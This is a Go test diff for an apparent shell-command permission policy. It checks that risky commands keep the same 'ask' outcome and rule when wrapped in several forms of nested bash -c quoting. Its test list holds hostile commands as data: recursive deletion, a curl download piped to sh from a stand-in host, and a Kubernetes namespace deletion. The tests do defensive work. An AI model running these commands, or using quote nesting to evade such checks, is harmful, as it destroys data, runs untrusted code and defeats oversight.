@@ -18,7 +18,10 @@ func TestQuotedOffsets(t *testing.T) {
 		{raw: "'a'\\\n'b'", value: "ab", at: []int{1, 6, 8}},
 		{raw: `'x'`, value: `x`, at: []int{1, 3}},
 		{raw: `''`, value: ``, at: []int{2}},
-		{raw: `$'a\nb'`, value: "a\nb"},  // ANSI-C quoting: not mapped
+		{raw: `$'a\nb'`, value: "a\nb"}, // an escape the source does not hold
+		{raw: `$'a\'b'`, value: `a'b`, at: []int{2, 4, 5, 7}},
+		{raw: `$'a\\'`, value: `a\`, at: []int{2, 4, 6}},
+		{raw: `$'a`, value: `a`},
 		{raw: `"$x"`, value: `v`},        // an expansion
 		{raw: "`x`", value: `x`},         // a substitution
 		{raw: `'a'`, value: `b`},         // bytes that do not make the value
@@ -58,15 +61,24 @@ func TestQuotedNestedKeepsRule(t *testing.T) {
 		"rm -rf 'build' ~/src",
 		"curl -o 'i.sh' https://x.example/i.sh && sh i.sh",
 		"kubectl delete ns 'staging'",
+		"cp a b ~/backup/",
+		"sed -i p ~/x.json",
 	} {
 		plain := pol.Explain(src, ctx, testNow)
-		quoted := "bash -c '" + strings.ReplaceAll(src, "'", `'\''`) + "'"
-		nested := pol.Explain(quoted, ctx, testNow)
 		if plain.Outcome == Allow {
 			t.Errorf("%q is allowed: a case here must ask", src)
 		}
-		if nested.Outcome != plain.Outcome || nested.Rule != plain.Rule {
-			t.Errorf("%q is %s by %q, but %q is %s by %q", src, plain.Outcome, plain.Rule, quoted, nested.Outcome, nested.Rule)
+		single := func(s string) string { return "bash -c '" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
+		for _, quoted := range []string{
+			single(src),
+			"bash -c $'" + strings.ReplaceAll(src, "'", `\'`) + "'",
+			single(single(src)), // nested twice
+			"bash -c \"" + strings.ReplaceAll(single(src), `\`, `\\`) + "\"",
+		} {
+			nested := pol.Explain(quoted, ctx, testNow)
+			if nested.Outcome != plain.Outcome || nested.Rule != plain.Rule {
+				t.Errorf("%q is %s by %q, but %q is %s by %q", src, plain.Outcome, plain.Rule, quoted, nested.Outcome, nested.Rule)
+			}
 		}
 	}
 }
